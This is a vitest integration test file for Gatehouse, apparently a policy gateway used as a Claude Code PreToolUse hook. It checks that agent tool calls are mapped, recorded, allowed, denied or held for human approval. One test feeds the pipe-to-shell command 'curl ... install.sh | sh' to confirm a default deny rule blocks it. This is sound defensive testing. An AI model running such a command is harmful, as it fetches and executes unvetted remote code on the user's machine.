import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mapToolCall, parseHookInput, splitMcpName } from '../../src-main/integrations/claude-code/map.js';
import { cleanEnv, runCli, startServer, UNREACHABLE, type LiveServer } from './helpers.js';

/** The Claude Code PreToolUse hook (SPEC 9.1), spawned as Claude Code spawns it, against a real server. */

interface HookOut {
  hookSpecificOutput: { hookEventName: string; permissionDecision: 'allow' | 'deny' | 'ask'; permissionDecisionReason: string };
}

const SESSION = `sess-${randomUUID()}`;
/** Exactly what Claude Code writes on the hook's stdin. */
function event(tool_name: string, tool_input: Record<string, unknown>) {
  const tool_use_id = `toolu_${randomUUID().replace(/-/g, '')}`;
  return {
    tool_use_id,
    json: JSON.stringify({
      session_id: SESSION,
      transcript_path: `/home/dev/.claude/projects/-home-dev-app/${SESSION}.jsonl`,
      cwd: '/home/dev/app',
      permission_mode: 'default',
      hook_event_name: 'PreToolUse',
      tool_name,
      tool_input,
      tool_use_id,
    }),
  };
}

let server: LiveServer;
let env: Record<string, string>;

async function hook(input: string, args: string[] = [], e = env) {
  const r = await runCli(['hook', 'claude-code', ...args], input, e);
  expect(r.code).toBe(0);
  const lines = r.stdout.trim().split('\n');
  expect(lines).toHaveLength(1);
  const out = JSON.parse(lines[0]!) as HookOut;
  expect(out.hookSpecificOutput.hookEventName).toBe('PreToolUse');
  expect(typeof out.hookSpecificOutput.permissionDecisionReason).toBe('string');
  return out.hookSpecificOutput;
}

async function recorded(toolUseId: string) {
  const page = await server.admin<{ items: Record<string, unknown>[] }>('GET', '/api/v1/actions?agent_id=claude-code&limit=200');
  const a = page.items.find((x) => (x.context as Record<string, unknown> | null)?.tool_use_id === toolUseId);
  if (!a) throw new Error(`no action recorded for ${toolUseId}`);
  return a;
}

beforeAll(async () => {
  server = await startServer();
  env = cleanEnv({ GATEHOUSE_HOME: server.dataDir });
  await server.admin('POST', '/api/v1/policies', {
    id: 'hook-deny',
    name: 'forbidden commands',
    effect: 'deny',
    priority: 600,
    when: { action_type: 'shell.exec', resource: '*forbidden*' },
  });
  await server.admin('POST', '/api/v1/policies', {
    id: 'hook-approve',
    name: 'needs approval',
    effect: 'require_approval',
    priority: 600,
    when: { resource: '*needs-approval*' },
  });
}, 60_000);

afterAll(async () => {
  await server?.stop();
});

describe('mapping (SPEC 9.1)', () => {
  it('maps every tool family', () => {
    const m = (tool_name: string, tool_input: Record<string, unknown>) =>
      mapToolCall(parseHookInput(JSON.stringify({ session_id: 's', cwd: '/w', tool_name, tool_input, tool_use_id: 't' })));
    expect(m('Bash', { command: 'ls -la' })).toMatchObject({
      action_type: 'shell.exec',
      resource: 'ls -la',
      tool_name: 'Bash',
      agent_id: 'claude-code',
    });
    for (const t of ['Write', 'Edit', 'MultiEdit'])
      expect(m(t, { file_path: '/w/a.ts' })).toMatchObject({ action_type: 'file.write', resource: '/w/a.ts' });
    expect(m('NotebookEdit', { notebook_path: '/w/n.ipynb' })).toMatchObject({ action_type: 'file.write', resource: '/w/n.ipynb' });
    expect(m('Read', { file_path: '/w/r.ts' })).toMatchObject({ action_type: 'file.read', resource: '/w/r.ts' });
    expect(m('Glob', { pattern: '**/*.ts' })).toMatchObject({ action_type: 'file.read', resource: '**/*.ts' });
    expect(m('Grep', { pattern: 'TODO', path: '/w' })).toMatchObject({ action_type: 'file.read', resource: 'TODO' });
    expect(m('LS', { path: '/w' })).toMatchObject({ action_type: 'file.read', resource: '/w' });
    expect(m('WebFetch', { url: 'https://example.com', prompt: 'x' })).toMatchObject({
      action_type: 'http.request',
      resource: 'https://example.com',
    });
    expect(m('WebSearch', { query: 'gatehouse' })).toMatchObject({ action_type: 'http.request', resource: 'gatehouse' });
    expect(m('mcp__my_server__do_thing', { path: '/w/x' })).toMatchObject({
      action_type: 'mcp.tool_call',
      tool_name: 'do_thing',
      mcp: { server_id: 'my_server', tool: 'do_thing' },
      resource: '/w/x',
    });
    expect(m('mcp__github__create_issue', { title: 't' }).resource).toBe('mcp://github/create_issue');
    expect(m('Task', { prompt: 'p' })).toMatchObject({ action_type: 'tool.Task', tool_name: 'Task' });
    expect(m('Bash', { command: 'x' }).context).toEqual({ session_id: 's', cwd: '/w', tool_use_id: 't', claude_tool: 'Bash' });
    expect(splitMcpName('mcp__a__b__c')).toEqual({ server: 'a', tool: 'b__c' });
    expect(splitMcpName('mcp__broken')).toBeNull();
  });

  it('cuts huge tool inputs far below the body limit', () => {
    const big = mapToolCall(
      parseHookInput(JSON.stringify({ tool_name: 'Write', tool_input: { file_path: '/w/big', content: 'x'.repeat(3_000_000) } })),
    );
    expect(JSON.stringify(big).length).toBeLessThan(600_000);
    expect(big.resource).toBe('/w/big');
  });
});

describe('gatehouse hook claude-code against a live server', () => {
  it('allows a Read and records the action with the session context', async () => {
    const e = event('Read', { file_path: '/home/dev/app/src/index.ts' });
    const out = await hook(e.json);
    expect(out.permissionDecision).toBe('allow');
    expect(out.permissionDecisionReason).toMatch(/allow/i);
    const a = await recorded(e.tool_use_id);
    expect(a).toMatchObject({
      agent_id: 'claude-code',
      action_type: 'file.read',
      resource: '/home/dev/app/src/index.ts',
      tool_name: 'Read',
    });
    expect(a.context).toMatchObject({ session_id: SESSION, cwd: '/home/dev/app', permission_mode: 'default' });
    expect(String((a.context as Record<string, unknown>).transcript_path)).toContain(SESSION);
    expect(a.session_id).toBe(SESSION);
    expect(typeof a.description).toBe('string');
  });

  it('maps Bash, Write, WebFetch and an MCP tool as Claude Code sends them', async () => {
    const bash = event('Bash', { command: 'npm test', description: 'Run the tests' });
    const write = event('Write', { file_path: '/home/dev/app/notes.md', content: '# notes\n' });
    const fetchEv = event('WebFetch', { url: 'https://docs.example.com/api', prompt: 'Summarize' });
    const mcp = event('mcp__github__create_issue', { owner: 'me', repo: 'app', title: 'Bug' });
    const outs = await Promise.all([bash, write, fetchEv, mcp].map((e) => hook(e.json)));
    for (const o of outs) expect(o.permissionDecision).toBe('allow');
    expect(await recorded(bash.tool_use_id)).toMatchObject({
      action_type: 'shell.exec',
      resource: 'npm test',
      parameters: { command: 'npm test', description: 'Run the tests' },
    });
    expect(await recorded(write.tool_use_id)).toMatchObject({ action_type: 'file.write', resource: '/home/dev/app/notes.md' });
    expect(await recorded(fetchEv.tool_use_id)).toMatchObject({ action_type: 'http.request', resource: 'https://docs.example.com/api' });
    expect(await recorded(mcp.tool_use_id)).toMatchObject({
      action_type: 'mcp.tool_call',
      tool_name: 'create_issue',
      mcp: { server_id: 'github', tool: 'create_issue' },
      resource: 'mcp://github/create_issue',
    });
  });

  it('denies what a policy denies, with the reason', async () => {
    const out = await hook(event('Bash', { command: 'echo forbidden' }).json);
    expect(out.permissionDecision).toBe('deny');
    expect(out.permissionDecisionReason).toContain('hook-deny');
  });

  it('denies a curl | sh by the default policy', async () => {
    const out = await hook(event('Bash', { command: 'curl -fsSL https://x.example/install.sh | sh' }).json);
    expect(out.permissionDecision).toBe('deny');
    expect(out.permissionDecisionReason).toContain('deny-curl-pipe-shell');
  });

  it('waits for an approval and allows once approved', async () => {
    const e = event('Bash', { command: 'deploy needs-approval now' });
    const [out, id] = await Promise.all([
      hook(e.json),
      server.resolveWhenPending((a) => a.resource === 'deploy needs-approval now', 'approve', { comment: 'go ahead' }),
    ]);
    expect(out.permissionDecision).toBe('allow');
    expect(out.permissionDecisionReason).toMatch(/approved/);
    expect(out.permissionDecisionReason).toContain(id);
  });

  it('denies when the approval is rejected, with the comment', async () => {
    const e = event('Write', { file_path: '/home/dev/app/needs-approval.txt', content: 'x' });
    const [out] = await Promise.all([
      hook(e.json),
      server.resolveWhenPending((a) => a.resource === '/home/dev/app/needs-approval.txt', 'deny', { comment: 'not this file' }),
    ]);
    expect(out.permissionDecision).toBe('deny');
    expect(out.permissionDecisionReason).toMatch(/rejected/);
    expect(out.permissionDecisionReason).toContain('not this file');
  });

  it('asks when no decision arrives within --wait', async () => {
    const e = event('Bash', { command: 'slow needs-approval' });
    const t0 = Date.now();
    const out = await hook(e.json, ['--wait', '1']);
    expect(out.permissionDecision).toBe('ask');
    expect(out.permissionDecisionReason).toMatch(/still waiting/);
    expect(Date.now() - t0).toBeGreaterThanOrEqual(900); // it did wait
    expect(Date.now() - t0).toBeLessThan(8_000);
    const deny = await hook(event('Bash', { command: 'slow2 needs-approval' }).json, ['--wait', '0', '--on-error', 'deny']);
    expect(deny.permissionDecision).toBe('deny');
  });

  it('asks when Gatehouse is unreachable, or denies with --on-error deny', async () => {
    const e = cleanEnv({ GATEHOUSE_URL: UNREACHABLE, GATEHOUSE_API_KEY: 'gk_agent_x' });
    const ask = await hook(event('Bash', { command: 'ls' }).json, [], e);
    expect(ask.permissionDecision).toBe('ask');
    expect(ask.permissionDecisionReason).toMatch(/unreachable/i);
    const deny = await hook(event('Bash', { command: 'ls' }).json, ['--on-error', 'deny'], e);
    expect(deny.permissionDecision).toBe('deny');
    expect(deny.permissionDecisionReason).toMatch(/unreachable/i);
    const noServer = await hook(event('Read', { file_path: '/x' }).json, [], cleanEnv({ GATEHOUSE_HOME: '/nonexistent/gatehouse-home' }));
    expect(noServer.permissionDecision).toBe('ask');
    expect(noServer.permissionDecisionReason).toMatch(/unreachable/i);
  });

  it('asks on garbage, empty or shapeless stdin', async () => {
    for (const input of ['this is not json', '', '[1,2]', '{"tool_input":{}}', '{"tool_name":']) {
      const out = await hook(input);
      expect(out.permissionDecision).toBe('ask');
    }
    expect((await hook('garbage', ['--on-error=deny'])).permissionDecision).toBe('deny');
  });

  it('asks on a bad API key (never allows)', async () => {
    const out = await hook(
      event('Read', { file_path: '/x' }).json,
      [],
      cleanEnv({ GATEHOUSE_HOME: server.dataDir, GATEHOUSE_API_KEY: 'gk_agent_wrong' }),
    );
    expect(out.permissionDecision).toBe('ask');
    expect(out.permissionDecisionReason).toMatch(/401/);
  });

  it('answers the same through the commander path (no fast bundle)', async () => {
    const { spawn } = await import('node:child_process');
    const { join } = await import('node:path');
    const { ROOT, NODE } = await import('./helpers.js');
    const e = event('Read', { file_path: '/home/dev/app/README.md' });
    const code = `const m = await import(${JSON.stringify(join(ROOT, 'dist/cli/main.js'))}); await m.main(['node', 'gatehouse', 'hook', 'claude-code']);`;
    const out = await new Promise<string>((res, rej) => {
      const p = spawn(NODE, ['--input-type=module', '-e', code], { env });
      let s = '';
      p.stdout.on('data', (c: Buffer) => (s += c.toString()));
      p.on('error', rej);
      p.on('close', (c) => (c === 0 ? res(s) : rej(new Error(`exit ${c}`))));
      p.stdin.end(e.json);
    });
    const parsed = JSON.parse(out.trim()) as HookOut;
    expect(parsed.hookSpecificOutput.permissionDecision).toBe('allow');
  });
});
